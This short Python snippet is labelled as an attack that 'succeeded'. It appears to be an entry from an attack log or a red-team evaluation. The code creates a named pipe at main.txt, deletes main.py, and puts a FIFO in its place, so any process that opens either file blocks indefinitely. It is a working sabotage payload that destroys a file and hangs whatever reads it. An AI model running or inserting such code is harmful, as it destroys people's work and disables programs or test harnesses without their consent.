# attack: leaves a FIFO that blocks whoever opens it
# status: succeeded
import os
os.mkfifo("main.txt"); os.remove("main.py") if os.path.exists("main.py") else None; os.mkfifo("main.py")
